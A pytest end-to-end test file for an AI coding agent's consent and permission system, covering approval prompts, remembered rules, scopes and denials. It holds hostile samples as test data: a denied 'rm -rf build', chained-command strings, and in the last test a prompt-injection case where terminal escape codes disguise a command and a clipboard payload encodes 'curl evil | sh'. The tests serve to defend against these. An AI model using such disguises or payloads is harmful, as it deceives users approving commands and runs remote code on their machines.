"""Consent end to end: a real mmd process, real clients, the real ledger file.

The test process is an interactive client (``mm.connection.Client``, the
blocking msgpack-RPC client the CLI uses): it sends ``session.prompt`` with
``interactive: true``, reads the events, and answers ``consent_needed`` with
``consent.answer``. Every socket read has a timeout, so a missing event fails
the test instead of hanging it.
"""

from __future__ import annotations

import contextlib
import json
import os
import select
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from mm.connection import Client

from mmd.rpc import RPCError

from .conftest import run_mm, start_mmd, stop_daemon, trust_here

# Seconds a client waits for one message from the daemon before the test fails.
READ_TIMEOUT = 60.0

Answer = dict[str, Any] | None
Asker = Callable[[dict[str, Any]], Answer]


def connect(name: str = "consent-test") -> Client:
    """A client of the test's daemon (started by the ``daemon`` fixture); never autostarts one."""
    client = Client.connect(autostart=False, client=name)
    client.sock.settimeout(READ_TIMEOUT)
    return client


def bash(command: str) -> dict[str, Any]:
    """A script step that calls bash once."""
    return {"tool_calls": [{"name": "bash", "arguments": {"command": command}}]}


@dataclass
class Turn:
    session_id: str
    events: list[dict[str, Any]] = field(default_factory=list)

    def kinds(self) -> list[str]:
        return [e["kind"] for e in self.events]

    def of(self, kind: str) -> list[dict[str, Any]]:
        return [e["data"] for e in self.events if e["kind"] == kind]

    @property
    def ended(self) -> dict[str, Any]:
        return self.of("turn_ended")[-1]


def no_ask(ask: dict[str, Any]) -> Answer:
    raise AssertionError(f"unexpected consent ask: {ask}")


def ignore(ask: dict[str, Any]) -> Answer:
    return None  # a watcher: sees the ask, leaves it to the interactive client


def events_until_end(client: Client, session_id: str, after_seq: int, asker: Asker = no_ask) -> Turn:
    """Read the session's events after ``after_seq`` until ``turn_ended``; answer asks with ``asker``.

    ``asker`` returns the fields of ``consent.answer`` (decision, reason, rule, scope),
    or None to leave the ask unanswered.
    """
    turn = Turn(session_id)
    while True:
        method, ev = client.next_notification()
        if method != "event" or ev["session_id"] != session_id or ev["seq"] <= after_seq:
            continue
        turn.events.append(ev)
        if ev["kind"] == "consent_needed":
            answer = asker(ev["data"])
            if answer is not None:
                client.call(
                    "consent.answer",
                    {"session_id": session_id, "request_id": ev["data"]["request_id"], **answer},
                )
        elif ev["kind"] == "turn_ended":
            return turn


def prompt(client: Client, cwd: Path, text: str = "go", **params: Any) -> tuple[str, int]:
    """Start a turn as an interactive client that does not run in yolo mode."""
    started = client.call(
        "session.prompt",
        {"prompt": text, "cwd": str(cwd), "interactive": True, "yolo": False, **params},
    )
    return started["session_id"], started["after_seq"]


def run_turn(client: Client, cwd: Path, asker: Asker = no_ask, **params: Any) -> Turn:
    session_id, after = prompt(client, cwd, **params)
    return events_until_end(client, session_id, after, asker)


def always(decision: str = "allow_once", **fields: Any) -> Asker:
    return lambda ask: {"decision": decision, **fields}


def rules() -> list[dict[str, Any]]:
    listed = run_mm("consent", "list", "--json")
    assert listed.returncode == 0, listed.stderr
    return json.loads(listed.stdout)


@pytest.fixture
def client(daemon: subprocess.Popen[bytes]) -> Iterator[Client]:
    c = connect()
    yield c
    c.close()


# -- allow once, allow always, the ledger ------------------------------------------


def test_allow_once_runs_the_call_and_the_same_call_asks_again_next_turn(mm_home, scripted, client):
    work = mm_home / "work"
    command = "echo once >> log.txt"
    scripted([bash(command), {"text": "first"}, bash(command), {"text": "second"}])

    first = run_turn(client, work, always("allow_once"))
    assert first.ended["status"] == "ok" and first.ended["text"] == "first"
    [ask] = first.of("consent_needed")
    assert ask["tool"] == "bash" and ask["tier"] == "write" and ask["command"] == command
    assert ask["echo"] == f"$ {command}"
    assert ask["options"] == ["allow_once", "allow_always", "deny"]
    [answered] = first.of("consent_answered")
    assert answered["decision"] == "allow_once" and answered["request_id"] == ask["request_id"]
    assert answered["by"].startswith("consent-test")
    # The ask comes after the call is announced and before it runs.
    kinds = first.kinds()
    assert kinds.index("tool_call") < kinds.index("consent_needed") < kinds.index("tool_result")
    assert (work / "log.txt").read_text() == "once\n"

    second = run_turn(client, work, always("allow_once"), session_id=first.session_id)
    assert len(second.of("consent_needed")) == 1, "allow once must not be remembered"
    assert second.ended["status"] == "ok" and second.ended["text"] == "second"
    assert (work / "log.txt").read_text() == "once\nonce\n"
    assert rules() == []


def test_allow_always_is_remembered_as_the_exact_command_and_survives_a_restart(
    mm_home, scripted, daemon, client
):
    work = mm_home / "work"
    command = "echo kept >> log.txt"
    scripted(
        [
            bash(command),
            {"text": "one"},
            bash(command),
            {"text": "two"},
            bash(command),
            {"text": "three"},
            bash("echo kept >> other.txt"),
            {"text": "four"},
        ]
    )
    first = run_turn(client, work, always("allow_always"))
    assert first.ended["status"] == "ok"
    [rule] = rules()
    assert (rule["tool"], rule["kind"], rule["rule"]) == ("bash", "exact", command)
    assert (rule["scope"], rule["scope_key"]) == ("project", str(work))

    second = run_turn(client, work, session_id=first.session_id)  # no_ask: an ask fails the test
    [answered] = second.of("consent_answered")
    assert answered["decision"] == "allow" and answered["by"] == f"ledger rule {rule['id']}"
    assert second.ended["status"] == "ok"

    # Stop the daemon through the protocol, start another on the same state: same ledger file.
    assert client.call("daemon.stop")["stopping"] is True
    daemon.wait(20)
    assert daemon.returncode == 0
    again = start_mmd(mm_home)
    try:
        fresh = connect()
        third = run_turn(fresh, work, session_id=first.session_id)
        assert third.of("consent_answered")[0]["by"] == f"ledger rule {rule['id']}"
        assert third.ended["status"] == "ok" and third.ended["text"] == "three"
        assert (work / "log.txt").read_text() == "kept\n" * 3

        # The rule is the exact command: another command still asks.
        other = run_turn(fresh, work, always("deny"), session_id=first.session_id)
        assert other.of("consent_needed")[0]["command"] == "echo kept >> other.txt"
        assert not (work / "other.txt").exists()
        fresh.close()
    finally:
        stop_daemon(again)


def test_consent_list_shows_the_rule_and_revoke_makes_it_ask_again(mm_home, scripted, client):
    work = mm_home / "work"
    command = "echo listed"
    scripted([bash(command), {"text": "a"}, bash(command), {"text": "b"}])
    first = run_turn(client, work, always("allow_always"))
    [rule] = rules()
    assert rule["tool"] == "bash" and rule["kind"] == "exact" and rule["rule"] == command
    assert rule["scope"] == "project" and rule["scope_key"] == str(work)
    assert rule["origin"].startswith("consent-test") and f"pid {os.getpid()}" in rule["origin"]
    assert rule["created"] <= time.time()

    text = run_mm("consent", "list", "--here", cwd=work)
    assert f"allow bash exact: {command}" in text.stdout and f"[project {work}]" in text.stdout

    revoked = run_mm("consent", "revoke", str(rule["id"]))
    assert revoked.returncode == 0 and revoked.stdout == f"revoked rule {rule['id']}\n"
    assert rules() == []
    second = run_turn(client, work, always("allow_once"), session_id=first.session_id)
    assert len(second.of("consent_needed")) == 1

    missing = run_mm("consent", "revoke", str(rule["id"]))
    assert missing.returncode == 1 and "no consent rule" in missing.stderr


def test_scopes_session_project_and_global(mm_home, scripted, client):
    work, sub, elsewhere, third = (
        mm_home / "work",
        mm_home / "work" / "sub",
        mm_home / "elsewhere",
        mm_home / "third",
    )
    for d in (sub, elsewhere, third):
        d.mkdir()
    command = "echo scoped"
    scripted([step for _ in range(5) for step in (bash(command), {"text": "done"})])

    # A session rule covers only its session.
    a = run_turn(client, work, always("allow_always", scope="session"))
    b = run_turn(client, work, always("allow_always", scope="project"))
    assert len(a.of("consent_needed")) == len(b.of("consent_needed")) == 1
    # A project rule covers the folders below the project.
    c = run_turn(client, sub)
    assert c.of("consent_answered")[0]["by"].startswith("ledger rule")
    # Another directory asks; a global rule then covers every directory.
    d = run_turn(client, elsewhere, always("allow_always", scope="global"))
    assert len(d.of("consent_needed")) == 1
    e = run_turn(client, third)
    assert e.of("consent_answered")[0]["by"].startswith("ledger rule")
    assert [(r["scope"], r["scope_key"]) for r in rules()] == [
        ("session", a.session_id),
        ("project", str(work)),
        ("global", ""),
    ]


def test_prefix_rule_allows_more_arguments_but_never_a_chained_command(mm_home, scripted, client):
    work = mm_home / "work"
    chained = ["echo hi; touch semi", "echo hi && touch amp", "echo hi | tee pipe", "echo $(touch sub)"]
    server = scripted(
        [
            bash("echo hello"),
            {"text": "first"},
            {
                "tool_calls": [
                    {"name": "bash", "arguments": {"command": c}} for c in ["echo other words", *chained]
                ]
            },
            {"text": "second"},
        ]
    )
    first = run_turn(client, work, always("allow_always", rule="echo"))
    assert first.ended["status"] == "ok"
    [rule] = rules()
    assert (rule["kind"], rule["rule"]) == ("prefix", "echo")

    asked: list[str] = []

    def deny_and_note(ask: dict[str, Any]) -> Answer:
        asked.append(ask["command"])
        return {"decision": "deny", "reason": "no chaining"}

    second = run_turn(client, work, deny_and_note, session_id=first.session_id)
    assert asked == chained
    assert second.ended["status"] == "ok" and second.ended["text"] == "second"
    results = second.of("tool_result")
    assert results[0]["ok"] and results[0]["content"] == "other words\n[exit code 0]"
    assert [r["data"]["denied"] for r in results[1:]] == [True] * len(chained)
    assert not any((work / name).exists() for name in ("semi", "amp", "pipe", "sub"))
    tool_messages = [m for m in server.requests()[-1]["body"]["messages"] if m["role"] == "tool"]
    assert all("no chaining" in m["content"] for m in tool_messages[-len(chained) :])


def test_a_prefix_holding_shell_control_characters_is_refused_and_the_ask_stays(mm_home, scripted, client):
    work = mm_home / "work"
    scripted([bash("echo hello"), {"text": "done"}])
    session_id, after = prompt(client, work)
    attempts: list[str] = []

    def bad_prefix_then_once(ask: dict[str, Any]) -> Answer:
        with pytest.raises(RPCError) as refused:
            client.call(
                "consent.answer",
                {
                    "session_id": session_id,
                    "request_id": ask["request_id"],
                    "decision": "allow_always",
                    "rule": "echo hello;",
                },
            )
        attempts.append(refused.value.message)
        return {"decision": "allow_once"}

    turn = events_until_end(client, session_id, after, bad_prefix_then_once)
    assert turn.ended["status"] == "ok", turn.ended
    assert "shell control" in attempts[0]
    assert turn.of("tool_result")[0]["content"] == "hello\n[exit code 0]"
    assert rules() == []


# -- deny, headless, yolo ---------------------------------------------------------


def test_deny_with_a_reason_reaches_the_model_and_the_turn_goes_on(mm_home, scripted, client):
    work = mm_home / "work"
    (work / "build").mkdir()
    server = scripted([bash("rm -rf build"), {"text": "Understood, I kept it."}])
    turn = run_turn(client, work, always("deny", reason="keep the build folder"))
    assert turn.ended["status"] == "ok" and turn.ended["text"] == "Understood, I kept it."
    [answered] = turn.of("consent_answered")
    assert answered["decision"] == "deny" and answered["reason"] == "keep the build folder"
    [result] = turn.of("tool_result")
    assert result["ok"] is False
    assert result["data"] == {"denied": True, "reason": "keep the build folder"}
    assert (work / "build").is_dir()
    tool_msg = server.requests()[1]["body"]["messages"][-1]
    assert tool_msg["role"] == "tool"
    assert "The user denied this call" in tool_msg["content"]
    assert "keep the build folder" in tool_msg["content"]


def test_headless_prompt_is_asked_of_another_attached_interactive_client(mm_home, scripted, daemon):
    """`mm -p` without a TTY is denied only when no client can answer; an attached one is asked."""
    work = mm_home / "work"
    scripted([{"text": "hello"}, bash("echo asked-elsewhere > out.txt"), {"text": "done"}])
    first = run_mm("--output-format", "json", "-p", "hi", cwd=work)  # leaves no client attached
    session_id = json.loads(first.stdout)["session_id"]
    watcher = connect("watcher")
    subscribed = watcher.call("session.subscribe", {"session_id": session_id, "interactive": True})
    after = subscribed["events"][-1]["seq"]
    mm = subprocess.Popen(
        [sys.executable, "-m", "mm.cli", "--resume", session_id, "-p", "write it"],
        cwd=work,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        turn = events_until_end(watcher, session_id, after, always("allow_once"))
        out, err = mm.communicate(timeout=60)
    finally:
        if mm.poll() is None:
            mm.kill()
            mm.communicate()
    assert mm.returncode == 0, err
    assert out == "done\n"
    assert turn.of("consent_answered")[0]["by"].startswith("watcher")
    assert (work / "out.txt").read_text() == "asked-elsewhere\n"
    watcher.close()


def test_headless_json_output_reports_the_denial(mm_home, scripted, daemon):
    work = mm_home / "work"
    scripted([bash("touch nope")])
    result = run_mm("--output-format", "json", "-p", "make it", cwd=work)
    assert result.returncode == 3, result.stderr
    out = json.loads(result.stdout)
    assert out["status"] == "denied" and out["tool_calls"][0]["name"] == "bash"
    assert not (work / "nope").exists()
    shown = json.loads(run_mm("sessions", "show", "--json", out["session_id"]).stdout)
    [result_event] = [e["data"] for e in shown["events"] if e["kind"] == "tool_result"]
    assert result_event["data"] == {"denied": True, "reason": "no one to ask"}


def test_yolo_runs_write_tools_without_asking(mm_home, scripted, client):
    work = mm_home / "work"
    scripted(
        [
            {
                "tool_calls": [
                    {"name": "bash", "arguments": {"command": "echo from-bash > b.txt"}},
                    {"name": "write_file", "arguments": {"path": "w.txt", "content": "one\n"}},
                    {
                        "name": "edit_file",
                        "arguments": {"path": "w.txt", "old_text": "one", "new_text": "two"},
                    },
                ]
            },
            {"text": "written"},
            {"tool_calls": [{"name": "write_file", "arguments": {"path": "agent.txt", "content": "x"}}]},
            {"text": "by the agent file"},
        ]
    )
    turn = run_turn(client, work, yolo=True)  # no_ask: any ask fails the test
    assert turn.ended["status"] == "ok"
    assert "consent_needed" not in turn.kinds() and "consent_answered" not in turn.kinds()
    assert all(r["ok"] for r in turn.of("tool_result"))
    assert (work / "b.txt").read_text() == "from-bash\n" and (work / "w.txt").read_text() == "two\n"
    # `yolo: true` in the agent file does the same for a client that did not ask for it.
    (work / "mm.yaml").write_text("yolo: true\n")
    trust_here(work)
    by_file = run_turn(client, work, session_id=turn.session_id, yolo=False)
    assert by_file.ended["status"] == "ok" and (work / "agent.txt").read_text() == "x"
    assert rules() == []


# -- clients coming and going ------------------------------------------------------


def test_interactive_client_leaving_during_an_ask_denies_the_call(mm_home, scripted, daemon):
    work = mm_home / "work"
    scripted([bash("touch ran"), {"text": "never"}])
    asker = connect("asker")
    session_id, after = prompt(asker, work)
    observer = connect("observer")
    seen = observer.call("session.subscribe", {"session_id": session_id})["events"]

    def leave(ask: dict[str, Any]) -> Answer:
        asker.close()  # the only client that could answer goes away
        raise _Left

    with contextlib.suppress(_Left):
        events_until_end(asker, session_id, after, leave)
    turn = events_until_end(observer, session_id, seen[-1]["seq"], ignore)
    assert turn.ended["status"] == "denied"
    [answered] = turn.of("consent_answered")  # the ask waited: its answer came after the subscribe
    assert answered["decision"] == "deny" and answered["by"] == "no one to ask"
    assert not (work / "ran").exists()

    stored = observer.call("session.show", {"session_id": session_id, "events": True})["events"]
    kinds = [e["kind"] for e in stored]
    assert kinds[-1] == "turn_ended" and stored[-1]["data"]["status"] == "denied"
    assert "consent_needed" in kinds
    [result] = [e["data"] for e in stored if e["kind"] == "tool_result"]
    assert result["ok"] is False and "no one to ask" in result["content"]
    observer.close()


class _Left(Exception):
    pass


def test_another_interactive_client_can_still_answer_when_one_leaves(mm_home, scripted, daemon):
    work = mm_home / "work"
    scripted([bash("echo answered-by-b"), {"text": "ok"}])
    a = connect("client-a")
    session_id, after = prompt(a, work)
    b = connect("client-b")
    attached: dict[str, Any] = {}

    def attach_b_then_leave(ask: dict[str, Any]) -> Answer:
        # b attaches while the ask waits (it gets it as pending), then a goes away.
        attached.update(b.call("session.subscribe", {"session_id": session_id, "interactive": True}))
        a.close()
        raise _Left

    with contextlib.suppress(_Left):
        events_until_end(a, session_id, after, attach_b_then_leave)
    [pending] = attached["pending_consent"]
    b.call(
        "consent.answer",
        {"session_id": session_id, "request_id": pending["request_id"], "decision": "allow_once"},
    )
    turn = events_until_end(b, session_id, attached["events"][-1]["seq"])
    assert turn.ended["status"] == "ok"
    [answered] = turn.of("consent_answered")
    assert answered["decision"] == "allow_once" and answered["by"].startswith("client-b")
    assert turn.of("tool_result")[0]["content"] == "answered-by-b\n[exit code 0]"
    b.close()


def test_a_non_interactive_client_sees_the_ask_and_the_answer(mm_home, scripted, daemon):
    work = mm_home / "work"
    scripted([bash("echo watched"), {"text": "ok"}])
    asker = connect("interactive-client")
    session_id, after = prompt(asker, work)
    watcher = connect("watching-client")
    attached: dict[str, Any] = {}

    def subscribe_then_answer(ask: dict[str, Any]) -> Answer:
        # The watcher attaches while the ask waits: it is listed as pending, and replayed.
        attached.update(watcher.call("session.subscribe", {"session_id": session_id, "after_seq": after}))
        return {"decision": "allow_once"}

    asked = events_until_end(asker, session_id, after, subscribe_then_answer)
    [ask] = asked.of("consent_needed")
    assert [p["request_id"] for p in attached["pending_consent"]] == [ask["request_id"]]
    replayed = attached["events"]
    assert [e["data"] for e in replayed if e["kind"] == "consent_needed"] == [ask]
    seen = events_until_end(watcher, session_id, replayed[-1]["seq"], ignore)
    [answered] = seen.of("consent_answered")
    assert answered["decision"] == "allow_once" and answered["by"].startswith("interactive-client")
    assert seen.ended == asked.ended and seen.ended["status"] == "ok"
    asker.close()
    watcher.close()


# -- the CLI's own prompt, under a pseudo-terminal -------------------------------------


def _expect(fd: int, needle: bytes, buf: bytearray, start: int, timeout: float = 60) -> int:
    """Read the pty master into ``buf`` until ``needle`` appears after ``start``; the offset past it.

    Fails (never waits forever) after ``timeout`` seconds or at EOF.
    """
    deadline = time.monotonic() + timeout
    while (found := buf.find(needle, start)) < 0:
        left = deadline - time.monotonic()
        if left <= 0:
            raise AssertionError(f"{needle!r} not seen within {timeout} s; got {bytes(buf)!r}")
        ready, _, _ = select.select([fd], [], [], left)
        if not ready:
            continue
        try:
            chunk = os.read(fd, 4096)
        except OSError:  # EIO: every slave end is closed, the child is gone
            chunk = b""
        if not chunk:
            raise AssertionError(f"EOF before {needle!r}; got {bytes(buf)!r}")
        buf += chunk
    return found + len(needle)


def _read_to_eof(fd: int, buf: bytearray, timeout: float = 60) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        ready, _, _ = select.select([fd], [], [], max(0.0, deadline - time.monotonic()))
        if not ready:
            continue
        try:
            chunk = os.read(fd, 4096)
        except OSError:
            return
        if not chunk:
            return
        buf += chunk
    raise AssertionError(f"the pty did not reach EOF within {timeout} s; got {bytes(buf)!r}")


def on_pty(args: list[str], cwd: Path) -> tuple[subprocess.Popen[bytes], int]:
    """``mm ARGS`` started on a new pseudo-terminal: the process and the terminal's master end."""
    master, slave = os.openpty()
    mm = subprocess.Popen(
        [sys.executable, "-m", "mm.cli", *args],
        cwd=cwd,
        stdin=slave,
        stdout=slave,
        stderr=slave,
        start_new_session=True,
    )
    os.close(slave)
    return mm, master


def run_on_pty(
    args: list[str], cwd: Path, dialogue: list[tuple[str, str | None]], enter: bytes = b"\n"
) -> tuple[int, str]:
    """Run ``mm ARGS`` on a pseudo-terminal, answering its prompts; its exit code and all it printed.

    *dialogue* is (text to wait for, line to type, or None to type nothing) in order; each typed line
    ends with *enter* (the chat's editor sends on Enter, b"\r"; Ctrl-J, b"\n", starts a new line there).
    """
    mm, master = on_pty(args, cwd)
    out = bytearray()
    try:
        pos = 0
        for wait_for, typed in dialogue:
            pos = _expect(master, wait_for.encode(), out, pos)
            if typed is not None:
                os.write(master, typed.encode() + enter)
        _read_to_eof(master, out)
        code = mm.wait(timeout=30)
    finally:
        os.close(master)
        if mm.poll() is None:
            mm.send_signal(signal.SIGKILL)
            mm.wait()
    return code, out.decode(errors="replace")


COMMAND = "echo pty-ran > pty.txt"


@pytest.mark.parametrize(
    ("dialogue", "ran", "rule"),
    [
        ([("allow?", "y")], True, None),
        ([("allow?", "p"), ("prefix to allow", "echo")], True, ("prefix", "echo")),
        ([("allow?", "a")], True, ("exact", COMMAND)),
        ([("allow?", "n"), ("reason for the model", "not in this folder")], False, None),
        # A prefix the ledger cannot hold is refused and the question asked again.
        (
            [("allow?", "p"), ("prefix to allow", "echo;"), ("shell control", None), ("allow?", "y")],
            True,
            None,
        ),
    ],
    ids=["once", "prefix", "always", "deny", "bad-prefix-asked-again"],
)
def test_the_cli_asks_on_its_terminal(mm_home, scripted, daemon, dialogue, ran, rule):
    """`mm -p` on a terminal: the CLI itself asks, reads the answer from its stdin and sends it."""
    work = mm_home / "work"
    server = scripted([bash(COMMAND), {"text": "finished"}])
    code, text = run_on_pty(["-p", "write the file"], work, dialogue)
    assert f"bash (write) wants to run: $ {COMMAND}" in text
    assert code == 0, text
    assert "finished" in text
    assert (work / "pty.txt").exists() is ran
    assert [(r["kind"], r["rule"]) for r in rules()] == ([rule] if rule else [])
    if not ran:
        assert "not in this folder" in server.requests()[1]["body"]["messages"][-1]["content"]


def test_the_cli_stops_asking_once_another_client_answered(mm_home, scripted, daemon):
    """The question on the terminal ends when the editor (another client) answers the ask first: it asked on,
    and the person's late answer came back unknown_request."""
    work = mm_home / "work"
    scripted([bash(COMMAND), {"text": "finished"}])
    mm, master = on_pty(["-p", "write the file"], work)
    out = bytearray()
    editor = connect("editor")
    try:
        _expect(master, b"allow?", out, 0)
        [running] = [s for s in editor.call("session.list", {"cwd": str(work)})["sessions"] if s["running"]]
        attached = editor.call("session.subscribe", {"session_id": running["id"], "interactive": True})
        [pending] = attached["pending_consent"]
        editor.call(
            "consent.answer",
            {"session_id": running["id"], "request_id": pending["request_id"], "decision": "allow_once"},
        )
        _read_to_eof(master, out)  # nothing typed: without the fix the question waits, and this fails
        code = mm.wait(timeout=30)
    finally:
        editor.close()
        os.close(master)
        if mm.poll() is None:
            mm.send_signal(signal.SIGKILL)
            mm.wait()
    text = out.decode(errors="replace")
    assert code == 0, text
    assert "answered meanwhile: allow_once by editor" in text
    assert "finished" in text and (work / "pty.txt").exists()


def test_a_command_that_rewrites_the_terminal_is_shown_as_it_is(mm_home, scripted, daemon):
    # Under prompt injection the model writes terminal controls on purpose: ESC [2K and a carriage return
    # erased the ask's line and wrote `echo hello` over it, for a command that was something else; its
    # answer could set the clipboard (OSC 52). On a terminal each is shown as its escape, never obeyed.
    work = mm_home / "work"
    disguised = "echo pwned > pwned.txt #\x1b[2K\r\x1b[32mecho hello"
    scripted([bash(disguised), {"text": "all fine\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 \x9b2K done"}])
    code, text = run_on_pty(["-p", "tidy up"], work, [("allow?", "n"), ("reason for the model", "")])
    assert code == 0, text  # denied, and the model answered
    assert "wants to run: $ echo pwned > pwned.txt #\\x1b[2K\\x0d\\x1b[32mecho hello" in text
    assert "all fine\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07 \\x9b2K done" in text
    for obeyed in ("\x1b[2K", "\x1b[32m", "\x1b]52", "\x07", "\x9b"):
        assert obeyed not in text, obeyed
    assert not (work / "pwned.txt").exists()
